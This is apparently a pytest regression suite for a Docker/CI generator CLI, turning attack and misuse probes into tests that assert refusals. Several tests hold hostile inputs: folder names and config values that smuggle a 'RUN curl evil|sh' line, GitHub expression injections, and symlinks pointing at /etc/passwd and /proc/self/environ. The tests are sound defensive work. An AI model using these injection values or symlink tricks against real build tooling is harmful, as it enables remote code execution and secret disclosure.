"""Issue #12 reproduced: every probe an attacker or a clumsy user made, as a test.

Each test runs the real command (in-process through ``rsdock.cli.main``, or as a subprocess where
the process environment or a second process matters) and asserts what the user sees: a located
``path: error: ... hint:`` with exit 2 (or a refusal with exit 1), never a traceback, and no byte
written where it must not be.
"""

from __future__ import annotations

import errno
import io
import json
import os
import shutil
import subprocess
import sys
import time
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from rsdock import fs
from rsdock.cli import main
from rsdock.lint.engine import runner
from rsdock.lint.engine.settings import LintConfig
from rsdock.wizard.edit import backup
from tests.tools import EXAMPLE, HANDWRITTEN, copy_example, copy_handwritten


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    return copy_example(tmp_path, "ws")


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    return copy_handwritten(tmp_path, "shop")


def tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file() and not p.is_symlink()}


def run(capsys, *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    text = out.out + out.err
    assert "Traceback" not in text
    return code, text


def run_process(*argv: str, env: dict | None = None, cwd: Path | None = None
                ) -> subprocess.CompletedProcess:
    done = subprocess.run([sys.executable, "-m", "rsdock", *argv], capture_output=True,
                          text=True, env=env, cwd=cwd, timeout=120)
    assert "Traceback" not in done.stderr + done.stdout
    return done


@contextmanager
def mounted(where: Path, size: str):
    """A real small tmpfs at ``where`` (root only), for full and read-only file systems."""
    where.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)],
                          capture_output=True)
    if done.returncode != 0:
        pytest.skip("mounting a tmpfs needs root")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def fill(folder: Path) -> None:
    """Use up every free byte of the file system holding ``folder``."""
    fd = os.open(folder / "filler", os.O_WRONLY | os.O_CREAT)
    try:
        for size in (65536, 4096, 256, 16, 1):
            try:
                while True:
                    os.write(fd, b"\0" * size)
            except OSError as error:
                assert error.errno == errno.ENOSPC
    finally:
        os.close(fd)


def remount_read_only(where: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(where)], check=True, capture_output=True)


# --- data loss ---------------------------------------------------------------------------------

def test_edit_on_a_full_disk_leaves_no_backup_that_undo_could_restore(tmp_path, capsys):
    """Was: a 0-byte .bak became the newest backup and the TUI's undo emptied the workflow."""
    with mounted(tmp_path / "disk", "2m") as disk:
        root = disk / "shop"
        shutil.copytree(HANDWRITTEN / "shop", root)
        before = tree(root)
        fill(disk)
        code, text = run(capsys, "edit", str(root), "--add-platform", "linux/arm/v7", "--yes")
        assert code == 2
        assert "No space left on device" in text and "hint:" in text
        assert tree(root) == before
        assert backup.list_backups(root) == []
        assert not list(root.rglob("*.rsdock-tmp"))


# --- writes outside the workspace --------------------------------------------------------------

def test_init_never_writes_through_a_github_symlink_leading_out(ws, tmp_path, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    (ws / ".github").symlink_to(outside)
    code, text = run(capsys, "init", str(ws), "--yes", "--force")
    assert code == 2 and "leads outside the workspace" in text
    assert list(outside.iterdir()) == []


def test_init_never_writes_through_a_dockerfile_folder_leading_out(ws, tmp_path, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    assert run(capsys, "init", str(ws), "--yes")[0] == 0
    config = (ws / "rsdock.toml").read_text()
    (ws / "rsdock.toml").write_text(config.replace('dockerfile = "Dockerfile"',
                                                   'dockerfile = "docker/Dockerfile"', 1))
    (ws / "docker").symlink_to(outside)
    code, text = run(capsys, "init", str(ws), "--yes", "--force")
    assert code == 2 and "docker/Dockerfile" in text and "leads outside" in text
    assert list(outside.iterdir()) == []


def test_a_symlinked_dockerfile_is_reported_by_lint_and_refused_by_edit(shop, tmp_path, capsys):
    """Was: edit skipped it (while changing its workflow job) and lint hid it."""
    outside = tmp_path / "elsewhere.Dockerfile"
    shutil.move(shop / "Dockerfile", outside)
    (shop / "Dockerfile").symlink_to(outside)
    code, text = run(capsys, "lint", str(shop), "--no-hadolint")
    assert code == 1 and "Dockerfile:1: RS001" in text and "leads outside the workspace" in text
    before = tree(shop)
    code, text = run(capsys, "edit", str(shop), "--add-platform", "linux/arm/v7", "--yes")
    assert code == 2 and "Dockerfile: error:" in text and "leads outside" in text
    assert tree(shop) == before


# --- reads that leak ---------------------------------------------------------------------------

def test_init_and_check_never_print_a_symlink_target(ws):
    """Was: `Dockerfile -> /etc/passwd` and `Dockerfile.web -> /proc/self/environ` as diffs."""
    assert run_process("init", str(ws), "--yes").returncode == 0
    (ws / "Dockerfile").unlink()
    (ws / "Dockerfile").symlink_to("/etc/passwd")
    web = next(p for p in ws.iterdir() if p.name.startswith("Dockerfile.") and "web" in p.name)
    web.unlink()
    web.symlink_to("/proc/self/environ")
    env = {**os.environ, "RSDOCK_PROBE_SECRET": "hunter2-in-the-environment"}
    for argv in (("init", str(ws), "--yes"), ("init", str(ws), "--check"),
                 ("init", str(ws), "--yes", "--dry-run")):
        done = run_process(*argv, env=env)
        output = done.stdout + done.stderr
        assert done.returncode == 2, output
        assert "root:x:" not in output and "hunter2" not in output
        assert "leads outside the workspace" in output


# --- injection ---------------------------------------------------------------------------------

def test_a_newline_in_a_web_crate_folder_cannot_forge_a_run_line(ws, capsys):
    web = ws / "crates" / "web"
    web.rename(ws / "crates" / "we\nRUN curl evil|sh\nb")
    before = tree(ws)
    code, text = run(capsys, "init", str(ws), "--yes")
    assert code == 2
    assert "contains a newline or control character" in text
    assert "\nRUN curl" not in text  # the name is shown escaped
    assert tree(ws) == before


@pytest.mark.parametrize("key, value", [("package", "web\nRUN curl evil|sh"),
                                        ("package-dir", "crates/web\nRUN curl evil|sh")])
def test_a_newline_in_rsdock_toml_is_a_located_error(ws, capsys, key, value):
    assert run(capsys, "init", str(ws), "--yes")[0] == 0
    config = (ws / "rsdock.toml").read_text()
    lines = config.splitlines()
    index = next(i for i, line in enumerate(lines) if line.startswith(f"{key} = ") and
                 "web" in line)
    lines[index] = f"{key} = {json.dumps(value)}"
    (ws / "rsdock.toml").write_text("\n".join(lines) + "\n")
    before = tree(ws)
    code, text = run(capsys, "init", str(ws), "--yes", "--force")
    assert code == 2 and f"rsdock.toml:{index + 1}: error:" in text
    assert "\nRUN curl" not in text
    assert tree(ws) == before


def test_a_newline_in_a_file_name_cannot_forge_lint_output(tmp_path, capsys):
    (tmp_path / "Dockerfile.x\nDockerfile:1: RS000 error: forged").write_text("FROM alpine\n")
    code, text = run(capsys, "lint", str(tmp_path), "--no-hadolint")
    assert not any(line.startswith("Dockerfile:1: RS000") for line in text.splitlines())
    assert "Dockerfile.x\\nDockerfile:1: RS000 error: forged:" in text


@pytest.mark.parametrize("ref", ['acme/x"y', "acme/x|sh", "acme/x y", "${{ github.event.issue.title }}",
                                 "${{ secrets.A || 'x' }}/server", "acme/Server", "acme/x:tag"])
def test_image_flags_follow_dockers_reference_grammar(ws, capsys, ref):
    code, text = run(capsys, "init", str(ws), "--yes", "--dry-run", "--image", f"server={ref}")
    assert code == 2 and "error:" in text


def test_a_plain_context_value_may_name_the_image(ws, capsys):
    code, _ = run(capsys, "init", str(ws), "--yes", "--dry-run",
                  "--image", "server=${{ vars.REGISTRY_NAMESPACE }}/server")
    assert code == 0


def test_a_bin_named_like_cargos_build_folders_is_refused_as_cargo_does(ws, capsys):
    manifest = ws / "crates" / "server" / "Cargo.toml"
    manifest.write_text(manifest.read_text() + '\n[[bin]]\nname = "build"\npath = "src/main.rs"\n')
    code, text = run(capsys, "init", str(ws), "--yes", "--dry-run")
    assert code == 2
    assert "conflicts with cargo's build directory names" in text
    assert f"{manifest}:" in text


# --- tracebacks --------------------------------------------------------------------------------

def test_random_bytes_in_cargo_toml_are_located_errors(ws, capsys):
    assert run(capsys, "init", str(ws), "--yes")[0] == 0
    (ws / "Cargo.toml").write_bytes(bytes(range(256)) * 3)
    for argv in (("lint", str(ws), "--no-hadolint"), ("init", str(ws), "--yes"),
                 ("edit", str(ws))):
        code, text = run(capsys, *argv)
        assert code in (0, 1, 2) and "not UTF-8" in text, argv


@pytest.mark.parametrize("file", ["Cargo.toml", "rsdock.toml"])
def test_toml_nested_five_thousand_deep_is_a_located_error(ws, capsys, file):
    assert run(capsys, "init", str(ws), "--yes")[0] == 0
    with open(ws / file, "a") as handle:
        handle.write("\ndeep = " + "[" * 5000 + "]" * 5000 + "\n")
    for argv in (("lint", str(ws), "--no-hadolint"), ("init", str(ws), "--yes"),
                 ("init", str(ws), "--check")):
        code, text = run(capsys, *argv)
        assert code in (1, 2) and "5000 levels deep" in text, argv


def test_symlink_loops_are_reported_by_lint_edit_and_init(shop, capsys):
    (shop / "Dockerfile.loop").symlink_to("Dockerfile.loop")
    (shop / "sub").mkdir()
    (shop / "sub" / "up").symlink_to("..")
    code, text = run(capsys, "lint", str(shop), "--no-hadolint")
    assert code == 1 and "Dockerfile.loop:1: RS001" in text and "symlink loop" in text
    code, text = run(capsys, "edit", str(shop))
    assert code == 2 and "Dockerfile.loop: error: a symlink loop" in text


def test_a_symlink_loop_is_a_dialog_in_the_tui(shop):
    from rsdock.wizard.tui.app import RsdockApp
    from rsdock.wizard.tui.screens.error_screen import ErrorScreen
    from tests.wizard.tui.snapshot_app import drive

    (shop / "Dockerfile.loop").symlink_to("Dockerfile.loop")
    seen = []

    async def scenario(pilot):
        seen.append(pilot.app.screen)

    drive(RsdockApp(shop, edit_existing=True), scenario)
    assert isinstance(seen[0], ErrorScreen) and "symlink loop" in seen[0].message


def test_init_on_a_full_disk_is_a_located_error_and_writes_nothing(tmp_path, capsys):
    with mounted(tmp_path / "disk", "2m") as disk:
        root = disk / "ws"
        shutil.copytree(EXAMPLE, root, ignore=shutil.ignore_patterns("target"))
        before = tree(root)
        fill(disk)
        code, text = run(capsys, "init", str(root), "--yes")
        assert code == 2 and "No space left on device" in text and "free some disk space" in text
        assert tree(root) == before and not list(root.rglob("*.rsdock-tmp"))


def test_init_and_discard_backups_in_a_read_only_folder_are_located_errors(tmp_path, capsys):
    with mounted(tmp_path / "disk", "4m") as disk:
        root = disk / "shop"
        shutil.copytree(HANDWRITTEN / "shop", root)
        assert run(capsys, "edit", str(root), "--add-platform", "linux/arm/v7", "--yes")[0] == 0
        remount_read_only(disk)
        code, text = run(capsys, "init", str(root), "--yes", "--force")
        assert code == 2 and "Read-only file system" in text and "hint:" in text
        code, text = run(capsys, "edit", str(root), "--discard-backups")
        assert code == 2 and "cannot delete the backups" in text and "Read-only" in text


def test_init_with_github_a_regular_file_names_it(ws, capsys):
    (ws / ".github").write_text("not a folder\n")
    code, text = run(capsys, "init", str(ws), "--yes")
    assert code == 2 and ".github is a file, where rsdock needs a folder" in text


# --- faults ------------------------------------------------------------------------------------

def test_stale_temporary_files_are_cleaned_by_the_next_init_and_ignored_by_docker(ws, capsys):
    (ws / ".Dockerfile.1f2e3d4c.rsdock-tmp").write_text("FROM half")
    assert run(capsys, "init", str(ws), "--yes")[0] == 0
    assert not list(ws.rglob("*.rsdock-tmp"))
    assert "**/*.rsdock-tmp" in (ws / ".dockerignore").read_text().splitlines()


def test_two_init_force_at_once_leave_one_whole_result(ws):
    assert run_process("init", str(ws), "--yes").returncode == 0
    runs = [subprocess.Popen([sys.executable, "-m", "rsdock", "init", str(ws), "--yes", "--force",
                              "--runtime", runtime], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
            for runtime in ("alpine", "distroless")]
    results = [(p.wait(timeout=120), p.stderr.read()) for p in runs]
    assert all(code == 0 for code, _ in results), results
    config = (ws / "rsdock.toml").read_text()
    runtime = "alpine" if 'runtime = "alpine"' in config else "distroless"
    # the Dockerfile matches the rsdock.toml next to it: one run's files, not a mix
    assert run_process("init", str(ws), "--check").returncode == 0
    assert ("FROM alpine" in (ws / "Dockerfile").read_text()) == (runtime == "alpine")


def test_an_init_that_waited_for_another_merges_against_what_that_one_wrote(ws, monkeypatch,
                                                                            capsys):
    """The deterministic form of the race above: a second `init --force` reads rsdock.toml and
    renders before the first one commits, then waits for the lock. It must compare with what
    the first one wrote (read under the lock), not with the render before it: merging three
    ways against that stale base mixed both runs' files (a flake of the test above, under load)."""
    assert main(["init", str(ws), "--yes"]) == 0
    real_locked, ran = fs.locked, []

    @contextmanager
    def first_commits_meanwhile(root, *args, **kwargs):
        if not ran:  # the waiting run: the other run takes the lock and commits first
            ran.append(True)
            assert main(["init", str(ws), "--yes", "--force", "--runtime", "alpine"]) == 0
        with real_locked(root, *args, **kwargs):
            yield

    monkeypatch.setattr(fs, "locked", first_commits_meanwhile)
    assert main(["init", str(ws), "--yes", "--force", "--runtime", "distroless"]) == 0
    monkeypatch.setattr(fs, "locked", real_locked)
    capsys.readouterr()
    assert main(["init", str(ws), "--check"]) == 0, capsys.readouterr()
    assert "FROM alpine" not in (ws / "Dockerfile").read_text()
    assert "<<<<<<<" not in (ws / "Dockerfile").read_text()


def test_edit_while_another_process_appends_loses_no_line(shop):
    from rsdock.wizard.edit.outcome import Outcome
    from rsdock.wizard.edit.propose import Proposal, apply

    path = shop / "Dockerfile"
    appender = subprocess.Popen([sys.executable, "-c", (
        "import os, sys, time\n"
        "for i in range(150):\n"
        "    fd = os.open(sys.argv[1], os.O_WRONLY | os.O_APPEND)\n"
        "    os.write(fd, f'# appended {i}\\n'.encode())\n"
        "    os.close(fd)\n"
        "    time.sleep(0.03 if i % 10 == 9 else 0.002)\n"), str(path)])  # bursts, then quiet
    edits = 0
    while appender.poll() is None:
        old = path.read_text()
        proposal = Proposal()
        proposal.record("Dockerfile", old, Outcome(old + "# edited\n", ["test"]))
        try:
            apply(shop, proposal)
            edits += 1
        except fs.Changed:
            pass
    text = path.read_text()
    assert [i for i in range(150) if f"# appended {i}\n" not in text] == []
    assert edits and text.count("# edited\n") == edits


# --- limits ------------------------------------------------------------------------------------

def test_hadolint_never_runs_on_a_file_rsdock_refused_as_too_big(tmp_path):
    (tmp_path / "Dockerfile").write_bytes(b"# padding\n" * (runner.MAX_BYTES // 10 + 1))
    started = time.monotonic()
    result = runner.lint_paths(["Dockerfile"], tmp_path, LintConfig())
    assert time.monotonic() - started < 10
    assert not result.hadolint_ran
    assert [(f.rule, f.line) for f in result.findings] == [("RS001", 1)]
    assert "rsdock reads files up to" in result.findings[0].message


def test_a_hundred_thousand_line_workflow_fails_fast_with_the_real_cause(tmp_path, capsys):
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    steps = "".join(f"      - run: echo {i}\n" for i in range(100_000))
    (workflows / "ci.yml").write_text("on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n"
                                      "    steps:\n" + steps)
    started = time.monotonic()
    code, text = run(capsys, "lint", str(tmp_path), "--no-hadolint")
    assert time.monotonic() - started < 10
    assert code == 1 and "has 100,005 lines; rsdock reads workflows of up to 20,000" in text
    assert "aliases" not in text


def test_ten_thousand_members_are_refused_fast_with_the_real_cause(tmp_path, capsys):
    (tmp_path / "Cargo.toml").write_text('[workspace]\nmembers = ["crates/*"]\n')
    for i in range(10_000):
        crate = tmp_path / "crates" / f"c{i}"
        crate.mkdir(parents=True)
        (crate / "Cargo.toml").write_text(f'[package]\nname = "c{i}"\nversion = "0.1.0"\n')
    started = time.monotonic()
    code, text = run(capsys, "init", str(tmp_path), "--yes", "--dry-run")
    assert time.monotonic() - started < 10
    assert code == 2 and "more than 5,000 members" in text and "Cargo.toml:2:" in text


def test_member_globs_cannot_reach_outside_the_workspace(ws, capsys):
    manifest = ws / "Cargo.toml"
    manifest.write_text(manifest.read_text().replace("members = [", 'members = ["../../*", ', 1))
    code, text = run(capsys, "init", str(ws), "--yes", "--dry-run")
    assert code == 2 and "`../../*` lies outside the workspace root" in text


# --- the user's files --------------------------------------------------------------------------

def test_read_only_files_are_refused_by_edit_and_fix_and_replaced_only_when_forced(
        shop, ws, tmp_path, capsys):
    (shop / "Dockerfile").chmod(0o444)
    before = tree(shop)
    code, text = run(capsys, "edit", str(shop), "--add-platform", "linux/arm/v7", "--yes")
    assert code == 2 and "read-only" in text
    assert tree(shop) == before
    research = tmp_path / "research"
    shutil.copytree(HANDWRITTEN / "research", research)
    workflow = research / ".github" / "workflows" / "docker.yml"
    workflow.chmod(0o444)
    before = tree(research)
    code, text = run(capsys, "lint", str(research), "--fix", "--no-hadolint")
    assert code == 2 and "docker.yml: error: this file is read-only" in text
    assert tree(research) == before
    assert run(capsys, "init", str(ws), "--yes")[0] == 0
    (ws / "Dockerfile").write_text("FROM mine\n")
    (ws / "Dockerfile").chmod(0o444)
    assert run(capsys, "init", str(ws), "--yes", "--force")[0] == 0
    assert (ws / "Dockerfile").read_text() != "FROM mine\n"
    assert (ws / "Dockerfile").stat().st_mode & 0o777 == 0o444


def test_a_hard_linked_file_is_not_silently_split(shop, tmp_path, capsys):
    os.link(shop / "Dockerfile", tmp_path / "linked-copy")
    code, text = run(capsys, "edit", str(shop), "--add-platform", "linux/arm/v7", "--yes")
    assert code == 2 and "other hard link" in text
    assert (tmp_path / "linked-copy").read_bytes() == (shop / "Dockerfile").read_bytes()


# --- random trees --------------------------------------------------------------------------------

_NAMES = st.sampled_from(["Dockerfile", "Dockerfile.web", "Cargo.toml", "rsdock.toml", ".github",
                          "workflows", "ci.yml", "crates", "src", "main.rs", "Dockerfile.\n x",
                          "ünï", ".dockerignore", "a b"])
_CONTENT = st.one_of(st.binary(max_size=64), st.sampled_from([
    b"FROM alpine\n", b"[package]\nname = \"x\"\nversion = \"0.1.0\"\n", b"on: push\njobs: {}\n",
    b"[workspace]\nmembers = [\"crates/*\"]\n", b"[lint]\nselect = [\"RS1\"]\n"]))
_NODE = st.tuples(st.lists(_NAMES, min_size=1, max_size=3),
                  st.sampled_from(["file", "dir", "link-loop", "link-out", "link-in", "ro"]),
                  _CONTENT)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(nodes=st.lists(_NODE, max_size=8),
       argv=st.sampled_from([("lint", "--no-hadolint"), ("init", "--yes", "--dry-run"),
                             ("init", "--check"), ("edit",), ("edit", "--fix", "--yes"),
                             ("init", "--yes", "--force")]))
def test_random_trees_never_crash_any_command(tmp_path_factory, nodes, argv):
    root = tmp_path_factory.mktemp("tree")
    outside = tmp_path_factory.mktemp("outside")
    (outside / "secret").write_text("do not print me\n")
    for parts, kind, content in nodes:
        path = root.joinpath(*parts)
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            if kind == "dir":
                path.mkdir(exist_ok=True)
            elif kind == "link-loop":
                path.symlink_to(path.name)
            elif kind == "link-out":
                path.symlink_to(outside / "secret")
            elif kind == "link-in":
                path.symlink_to(".")
            else:
                path.write_bytes(content)
                if kind == "ro":
                    path.chmod(0o444)
        except OSError:
            continue  # the tree can hold that name already as something else
    argv = (argv[0], str(root), *argv[1:])
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(argv))  # an uncaught exception fails the test with its traceback
    output = out.getvalue() + err.getvalue()
    assert code in (0, 1, 2), output
    assert "do not print me" not in output
    assert [p.name for p in outside.iterdir()] == ["secret"]
